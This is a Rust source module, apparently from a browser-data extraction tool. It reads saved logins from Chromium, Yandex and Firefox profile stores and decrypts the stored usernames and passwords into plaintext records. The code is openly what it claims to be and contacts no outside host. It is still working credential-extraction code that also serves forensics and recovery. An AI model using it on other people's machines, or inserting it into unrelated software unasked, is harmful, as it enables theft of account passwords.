//! Saved logins
//!
//! Chromium and Yandex keep logins in a SQLite `logins` table with the
//! password encrypted; Firefox keeps them in `logins.json` with both user
//! name and password wrapped in a DER envelope.

use std::path::{Path, PathBuf};

use chrono::{DateTime, Utc};
use serde::{Deserialize, Serialize};
use tracing::debug;

use super::{chromium_time, decrypted_or_blank, store_path, unix_millis};
use crate::browsing_data::{RecordSet, Source};
use crate::crypto;
use crate::db_snapshot::Snapshot;
use crate::error::SourceError;
use crate::item::Item;

/// Password entry from browser
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct LoginData {
    #[serde(rename = "URL")]
    pub url: String,
    #[serde(rename = "UserName")]
    pub username: String,
    #[serde(rename = "Password")]
    pub password: String,
    #[serde(rename = "CreateDate")]
    pub create_date: Option<DateTime<Utc>>,
}

const CHROMIUM_QUERY: &str =
    "SELECT origin_url, username_value, password_value, date_created FROM logins";
const YANDEX_QUERY: &str =
    "SELECT action_url, username_value, password_value, date_created FROM logins";

fn read_logins(db_path: &Path, query: &str, master_key: &[u8]) -> Result<Vec<LoginData>, SourceError> {
    let snapshot = Snapshot::open(db_path)?;
    let mut stmt = snapshot.conn().prepare(query)?;

    let rows = stmt.query_map([], |row| {
        Ok((
            row.get::<_, String>(0)?,
            row.get::<_, String>(1)?,
            row.get::<_, Vec<u8>>(2)?,
            row.get::<_, i64>(3)?,
        ))
    })?;

    let mut logins = Vec::new();
    for row in rows {
        let (url, username, encrypted_pwd, created) = row?;
        let password = decrypted_or_blank(
            crypto::decrypt_to_string(master_key, &encrypted_pwd),
            "password",
            &format!("{} ({})", url, username),
        );
        logins.push(LoginData {
            url,
            username,
            password,
            create_date: chromium_time(created),
        });
    }

    // Sort by creation date descending
    logins.sort_by(|a, b| b.create_date.cmp(&a.create_date));
    debug!("Read {} logins from {:?}", logins.len(), db_path);
    Ok(logins)
}

pub struct ChromiumPassword {
    profile_dir: PathBuf,
    logins: Vec<LoginData>,
}

impl ChromiumPassword {
    pub fn new(profile_dir: PathBuf) -> Self {
        Self {
            profile_dir,
            logins: Vec::new(),
        }
    }

    pub fn logins(&self) -> &[LoginData] {
        &self.logins
    }
}

impl Source for ChromiumPassword {
    fn parse(&mut self, master_key: &[u8]) -> Result<(), SourceError> {
        self.logins.clear();
        let path = store_path(&self.profile_dir, Item::ChromiumPassword)?;
        self.logins = read_logins(&path, CHROMIUM_QUERY, master_key)?;
        Ok(())
    }

    fn name(&self) -> &str {
        "passwords"
    }

    fn len(&self) -> usize {
        self.logins.len()
    }

    fn records(&self) -> &dyn RecordSet {
        &self.logins
    }
}

/// Yandex stores the submit URL rather than the origin.
pub struct YandexPassword {
    profile_dir: PathBuf,
    logins: Vec<LoginData>,
}

impl YandexPassword {
    pub fn new(profile_dir: PathBuf) -> Self {
        Self {
            profile_dir,
            logins: Vec::new(),
        }
    }
}

impl Source for YandexPassword {
    fn parse(&mut self, master_key: &[u8]) -> Result<(), SourceError> {
        self.logins.clear();
        let path = store_path(&self.profile_dir, Item::YandexPassword)?;
        self.logins = read_logins(&path, YANDEX_QUERY, master_key)?;
        Ok(())
    }

    fn name(&self) -> &str {
        "passwords"
    }

    fn len(&self) -> usize {
        self.logins.len()
    }

    fn records(&self) -> &dyn RecordSet {
        &self.logins
    }
}

#[derive(Debug, Deserialize)]
struct LoginsFile {
    #[serde(default)]
    logins: Vec<FirefoxLogin>,
}

#[derive(Debug, Deserialize)]
#[serde(rename_all = "camelCase")]
struct FirefoxLogin {
    hostname: String,
    encrypted_username: String,
    encrypted_password: String,
    #[serde(default)]
    time_created: i64,
}

pub struct FirefoxPassword {
    profile_dir: PathBuf,
    logins: Vec<LoginData>,
}

impl FirefoxPassword {
    pub fn new(profile_dir: PathBuf) -> Self {
        Self {
            profile_dir,
            logins: Vec::new(),
        }
    }
}

impl Source for FirefoxPassword {
    fn parse(&mut self, master_key: &[u8]) -> Result<(), SourceError> {
        self.logins.clear();
        let path = store_path(&self.profile_dir, Item::FirefoxPassword)?;
        let content = std::fs::read_to_string(&path)?;
        let file: LoginsFile = serde_json::from_str(&content)?;

        let mut logins = Vec::with_capacity(file.logins.len());
        for login in file.logins {
            let username = decrypted_or_blank(
                crypto::decrypt_login_field(master_key, &login.encrypted_username),
                "username",
                &login.hostname,
            );
            let password = decrypted_or_blank(
                crypto::decrypt_login_field(master_key, &login.encrypted_password),
                "password",
                &login.hostname,
            );
            logins.push(LoginData {
                url: login.hostname,
                username,
                password,
                create_date: unix_millis(login.time_created),
            });
        }

        logins.sort_by(|a, b| b.create_date.cmp(&a.create_date));
        self.logins = logins;
        Ok(())
    }

    fn name(&self) -> &str {
        "passwords"
    }

    fn len(&self) -> usize {
        self.logins.len()
    }

    fn records(&self) -> &dyn RecordSet {
        &self.logins
    }
}
